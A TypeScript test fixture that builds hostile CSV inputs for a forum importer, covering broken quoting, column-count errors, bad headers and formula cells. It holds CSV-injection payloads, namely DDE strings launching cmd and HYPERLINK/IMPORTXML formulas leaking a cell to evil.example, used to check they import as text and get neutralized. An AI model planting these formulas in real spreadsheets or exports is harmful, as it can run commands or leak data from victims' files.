// CSV made hostile: formula cells, broken quoting, wrong column counts, bad headers.
// Formula cells (=, +, -, @ first) are data, not errors: a forum post may start with "=". They
// import as plain text, and every CSV export neutralizes them (hostile.test.ts checks both).
import { utf8, type HostileCase } from '../case.ts';
import { postsCsv } from '../bases.ts';

const header = 'thread_id,post_id,author,created_at,title,body,category,tags';
const row = (id: number, cells: Partial<Record<'author' | 'title' | 'body' | 'category' | 'tags', string>> = {}) =>
  [
    `t${1 + (id % 2)}`,
    `p${id}`,
    cells.author ?? 'ann',
    `2022-01-0${1 + (id % 9)}T10:00:00Z`,
    cells.title ?? 'A title',
    cells.body ?? 'A body',
    cells.category ?? 'help',
    cells.tags ?? 'x',
  ].join(',');
const quoted = (s: string) => `"${s.replace(/"/g, '""')}"`;

export const formulas = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
];

export function csvCases(): HostileCase[] {
  const file = (rows: string[]) => () => utf8(`${rows.join('\n')}\n`);
  const fail = (name: string, code: string, where: object, message?: RegExp) => ({
    ok: false as const,
    code: `import.${code}`,
    where: { file: name, ...where },
    ...(message ? { message } : {}),
  });
  const cases: Omit<HostileCase, 'category'>[] = formulas.map((f, i) => {
    const name = `formula-${i}.csv`;
    const cell = quoted(f);
    return {
      name,
      format: 'csv' as const,
      bytes: file([header, row(1, { author: cell, title: cell, body: cell, category: cell }), row(2)]),
      // Stored as the text it is: the title, author and category verbatim, the body escaped into a paragraph.
      expected: {
        ok: true as const,
        threads: 2,
        posts: 2,
        stored: [
          [
            "SELECT t.title, t.category, p.author FROM threads t JOIN posts p ON p.thread_id = t.id JOIN sources s ON s.id = t.source_id WHERE s.name = ? AND p.external_id = 'p1'",
            { title: f, category: f, author: f },
          ],
        ] as [string, unknown][],
      },
    };
  });
  const base = postsCsv.text.split('\n');
  cases.push(
    // Quotes.
    {
      name: 'quote-unclosed.csv',
      format: 'csv',
      bytes: file([header, row(1), row(2, { body: '"never closed' }), row(3)]),
      expected: fail('quote-unclosed.csv', 'invalid_csv', { line: 3 }, /Quote Not Closed/),
    },
    {
      name: 'quote-inside.csv',
      format: 'csv',
      bytes: file([header, row(1), row(2, { title: 'say "hi"' })]),
      expected: fail('quote-inside.csv', 'invalid_csv', { line: 3, field: 'title' }, /quote/),
    },
    {
      name: 'quote-inside-long.csv',
      format: 'csv',
      bytes: file([header, row(1), row(2, { title: `${'long '.repeat(20_000)}"` })]),
      expected: fail('quote-inside-long.csv', 'invalid_csv', { line: 3, field: 'title' }, /value is "long long/),
    },
    {
      name: 'quote-after-close.csv',
      format: 'csv',
      bytes: file([header, row(1, { body: '"closed"then text' }), row(2)]),
      expected: fail('quote-after-close.csv', 'invalid_csv', { line: 2 }, /Closing Quote/),
    },
    {
      name: 'quote-space-after.csv',
      format: 'csv',
      bytes: file([header, row(1), row(2, { body: '"closed" ' })]),
      expected: fail('quote-space-after.csv', 'invalid_csv', { line: 3 }),
    },
    {
      name: 'quote-doubled-ok.csv',
      format: 'csv',
      bytes: file([header, row(1, { body: quoted('she said "hi", twice: ""') }), row(2)]),
      expected: { ok: true, threads: 2, posts: 2 },
    },
    {
      name: 'quote-multiline-then-short.csv',
      format: 'csv',
      bytes: file([header, row(1), row(2, { body: '"line one\nline two"' }).split(',').slice(0, 6).join(','), row(3)]),
      expected: fail('quote-multiline-then-short.csv', 'invalid_csv', { line: 3 }, /got 6/),
    },
    // Column counts.
    {
      name: 'columns-extra.csv',
      format: 'csv',
      bytes: file([header, row(1), `${row(2)},surplus`, row(3)]),
      expected: fail('columns-extra.csv', 'invalid_csv', { line: 3 }, /got 9/),
    },
    {
      name: 'columns-missing.csv',
      format: 'csv',
      bytes: file([header, row(1), row(2), row(3).split(',').slice(0, 5).join(',')]),
      expected: fail('columns-missing.csv', 'invalid_csv', { line: 4 }, /got 5/),
    },
    {
      name: 'columns-10000.csv',
      format: 'csv',
      bytes: file([header, `${row(1)}${',x'.repeat(10_000)}`]),
      expected: fail('columns-10000.csv', 'invalid_csv', { line: 2 }, /got 10008/),
    },
    {
      name: 'columns-one.csv',
      format: 'csv',
      bytes: file([header, row(1), 'just one cell']),
      expected: fail('columns-one.csv', 'invalid_csv', { line: 3 }, /got 1\b/),
    },
    // Headers.
    {
      name: 'header-missing-column.csv',
      format: 'csv',
      bytes: file([header.replace('post_id', 'id'), row(1)]),
      expected: fail('header-missing-column.csv', 'invalid_mapping', { field: 'mapping' }, /no column "post_id"/),
    },
    {
      name: 'header-semicolons.csv',
      format: 'csv',
      bytes: file([header.replace(/,/g, ';'), row(1).replace(/,/g, ';')]),
      expected: fail('header-semicolons.csv', 'invalid_mapping', { field: 'mapping' }),
    },
    {
      name: 'header-tabs.csv',
      format: 'csv',
      bytes: file([header.replace(/,/g, '\t'), row(1).replace(/,/g, '\t')]),
      expected: fail('header-tabs.csv', 'invalid_mapping', { field: 'mapping' }),
    },
    {
      name: 'header-wide.csv',
      format: 'csv',
      bytes: file([Array.from({ length: 5000 }, (_, i) => `column ${i} ${'x'.repeat(50)}`).join(','), row(1)]),
      expected: fail('header-wide.csv', 'invalid_mapping', { field: 'mapping' }, /and 4990 more/),
    },
    {
      name: 'header-only.csv',
      format: 'csv',
      bytes: file([header]),
      expected: fail('header-only.csv', 'empty_file', {}),
    },
    {
      name: 'header-formula.csv',
      format: 'csv',
      bytes: file([`=cmd|' /C calc'!A0,${header}`, `x,${row(1)}`]),
      expected: { ok: true, threads: 1, posts: 1 },
    },
    // Records.
    {
      name: 'duplicate-post.csv',
      format: 'csv',
      bytes: file([header, row(1), row(2), row(1)]),
      expected: fail('duplicate-post.csv', 'duplicate_id', { line: 4 }, /p1 appears twice/),
    },
    {
      name: 'blank-lines.csv',
      format: 'csv',
      bytes: file([header, '', row(1), '', '', row(2), '']),
      expected: { ok: true, threads: 2, posts: 2 },
    },
    {
      name: 'crlf.csv',
      format: 'csv',
      bytes: () => utf8(`${postsCsv.text.replace(/\n/g, '\r\n')}`),
      expected: { ok: true, threads: 2, posts: 4 },
    },
    {
      name: 'cr-only.csv',
      format: 'csv',
      bytes: () => utf8(`${header}\r${row(1)}\r${row(2)}\r`),
      expected: { ok: true, threads: 2, posts: 2 },
    },
    {
      name: 'fixture-extra-cell.csv',
      format: 'csv',
      bytes: () => utf8(base.map((l, i) => (i === 7 ? `${l},extra` : l)).join('\n')),
      expected: fail('fixture-extra-cell.csv', 'invalid_csv', { line: 8 }),
    },
  );
  return cases.map((c) => ({ category: 'csv', ...c }));
}
